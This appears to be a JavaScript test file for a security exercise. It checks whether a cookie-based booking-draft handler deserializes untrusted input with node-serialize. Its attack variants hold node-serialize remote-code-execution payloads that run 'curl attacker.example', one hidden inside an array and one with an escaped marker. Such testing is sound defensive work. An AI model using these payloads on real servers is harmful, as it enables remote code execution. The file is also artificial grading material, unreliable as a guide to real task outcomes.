const ran = [];
const shell = { execSync: (command) => { ran.push(command); return ''; } };
const MARK = '_$$ND_FUNC$$_';

/** As the real package does it: a text that begins with the mark is code. */
function revive(value) {
  if (typeof value === 'string' && value.startsWith(MARK)) {
    return new Function('require', `return (${value.slice(MARK.length)})`)(() => shell);
  }
  if (value && typeof value === 'object') {
    for (const key of Object.keys(value)) value[key] = revive(value[key]);
  }
  return value;
}

exports.modules = {
  'node-serialize': {
    serialize: (value) => JSON.stringify(value),
    unserialize: (text) => revive(JSON.parse(text)),
  },
  child_process: shell,
};

/** @returns what the server sent, and the object that it sends with */
function answer() {
  const sent = { status: 200, cookies: {} };
  const res = live({
    status: (code) => { sent.status = code; return res; },
    json: (body) => { sent.body = body; return res; },
    send: (body) => { sent.body = body; return res; },
    cookie: (name, value) => { sent.cookies[name] = value; return res; },
    end: () => res,
  });
  return { sent, res };
}

async function show(code, cookies) {
  const { sent, res } = answer();
  await code.showDraft({ cookies, query: {}, body: {}, headers: {} }, res);
  return sent;
}

async function keep(code, body) {
  const { sent, res } = answer();
  await code.keepDraft({ cookies: {}, query: {}, body, headers: {} }, res);
  return sent;
}

const EMPTY = { room: '', nights: 1, extras: [] };

exports.behaviour = {
  'shows an empty form without a cookie': async (code) => {
    equal((await show(code, {})).body, EMPTY);
  },
  'shows again what the guest has typed': async (code) => {
    const draft = { room: 'Lake view', nights: 3, extras: ['breakfast', 'bicycle'] };
    const { cookies } = await keep(code, draft);
    holds(typeof cookies.draft === 'string', 'The draft is kept in the cookie `draft`.');
    equal((await show(code, cookies)).body, draft);
  },
  'shows an empty form when the cookie is broken': async (code) => {
    equal((await show(code, { draft: '{"room":' })).body, EMPTY);
  },
};

async function tryCookie(code, draft) {
  await show(code, { draft }).catch(() => undefined);
  return ran.length > 0 ? `The server ran \`${ran[0]}\`.` : undefined;
}

exports.attack = tryCookie;

const call = (command) => `${MARK}function(){ require('child_process').execSync('${command}') }()`;

exports.variants = {
  'a function further inside': (code) =>
    tryCookie(code, JSON.stringify({ room: 'Lake view', nights: 2, extras: ['breakfast', call('curl attacker.example')] })),
  'a mark that is written in another way': (code) =>
    tryCookie(code, JSON.stringify({ room: call('curl attacker.example') }).replace('_$$', '\\u005f$$$$')),
};
